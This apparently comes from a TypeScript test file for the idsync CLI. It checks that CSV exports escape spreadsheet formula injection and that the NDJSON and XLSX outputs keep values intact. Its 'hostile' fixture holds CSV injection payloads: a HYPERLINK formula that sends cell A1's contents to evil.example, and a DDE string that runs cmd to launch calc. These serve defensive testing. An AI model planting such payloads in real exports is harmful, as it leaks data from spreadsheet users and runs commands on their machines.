import fsp from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSandbox, type Sandbox } from '../../src/sandbox/index.js';
import { escapeFormula } from '../../src/sinks/output-csv.js';
import { idsync } from '../support/cli.js';
import { sandboxEnv, tempDir } from '../support/env.js';
import { readNdjson } from '../support/ndjson.js';

// #11.5: a cell such as =HYPERLINK(…) from the platform ran as a formula in the reader's
// spreadsheet. CLI.md: CSV cells and header names starting with = + - @ TAB CR get a leading
// "'"; NDJSON stays exactly as sent; XLSX cells are strings, never formulas.

describe('escapeFormula', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['+86 138', "'+86 138"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['a=b', 'a=b'],
    [' =1', ' =1'],
    ["'=1", "'=1"],
    ['', ''],
    ['张三', '张三'],
  ])('%j → %j', (cell, expected) => {
    expect(escapeFormula(cell)).toBe(expected);
  });
});

const hostile = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  department: "@SUM(1+1)*cmd|' /C calc'!A0",
  phone: '+8613800000000',
  balance: -12,
  note: '\t=1+1',
  motto: '\r=2+2',
  '=header': 'a=b',
};

let sandbox: Sandbox;
let home: string;
let env: Record<string, string>;
let key: string;
beforeAll(async () => {
  sandbox = await startSandbox({ port: 0, seed: 13, people: { 'ecnu-staff': 5 } });
  home = await tempDir('idsync-files-csv-');
  env = sandboxEnv(sandbox, home);
  [key] = sandbox.mutate({ dataset: 'ecnu-staff', op: 'insert', fields: hostile }) as [string];
});
afterAll(async () => {
  await sandbox.close();
  await fsp.rm(home, { recursive: true, force: true });
});

async function pullCsv(args: string[]): Promise<Record<string, string>> {
  const file = path.join(home, `out-${args.length}.csv`);
  const r = await idsync(['pull', 'ecnu-staff', '-o', file, ...args], env);
  expect(r.exitCode).toBe(0);
  const rows = parse<Record<string, string>>(await fsp.readFile(file), { bom: true, columns: true });
  return rows.find((row) => row['userId'] === key)!;
}

describe('pull -o FILE.csv with formulas from the platform', () => {
  it('prefixes cells and header names that a spreadsheet would run', async () => {
    const row = await pullCsv([]);
    expect(row['name']).toBe(`'${hostile.name}`);
    expect(row['department']).toBe(`'${hostile.department}`);
    expect(row['phone']).toBe("'+8613800000000");
    expect(row['balance']).toBe("'-12");
    expect(row['note']).toBe("'\t=1+1");
    expect(row['motto']).toBe("'\r=2+2");
    expect(row["'=header"]).toBe('a=b');
    expect(row['userId']).toBe(key);
  });

  it('--csv-raw writes them exactly as sent, for programs', async () => {
    const row = await pullCsv(['--csv-raw']);
    expect(row['name']).toBe(hostile.name);
    expect(row['balance']).toBe('-12');
    expect(row['motto']).toBe('\r=2+2');
    expect(row['=header']).toBe('a=b');
  });

  it('--csv-raw with another format is a usage error, before any request', async () => {
    const before = sandbox.stats().requests;
    const r = await idsync(['pull', 'ecnu-staff', '-o', path.join(home, 'x.ndjson'), '--csv-raw'], env);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/^idsync: --csv-raw applies to CSV output/);
    expect(sandbox.stats().requests).toBe(before);
  });

  it('NDJSON keeps every value exactly as sent', async () => {
    const file = path.join(home, 'out.ndjson');
    expect((await idsync(['pull', 'ecnu-staff', '-o', file], env)).exitCode).toBe(0);
    const row = (await readNdjson(file)).find((r) => r['userId'] === key)!;
    expect(row).toMatchObject(hostile);
  });

  it('XLSX holds them as strings, never as formulas', async () => {
    const file = path.join(home, 'out.xlsx');
    expect((await idsync(['pull', 'ecnu-staff', '-o', file], env)).exitCode).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0]!;
    // Strings are inline rich-text runs (space preserved): compare their text.
    const header = Array.from({ length: ws.getRow(1).cellCount }, (_, i) => ws.getRow(1).getCell(i + 1).text);
    const rowNo = [...Array(ws.rowCount).keys()]
      .map((i) => i + 1)
      .find((i) => ws.getRow(i).getCell(header.indexOf('userId') + 1).text === key)!;
    for (const [field, value] of Object.entries(hostile)) {
      const cell = ws.getRow(rowNo).getCell(header.indexOf(field) + 1);
      expect([field, cell.type]).toEqual([field, ExcelJS.ValueType.RichText]);
      // Exactly as sent: a CR travels as `_x000D_` (XML itself reads a raw CR as LF).
      expect(cell.text).toBe(String(value));
    }
  });
});
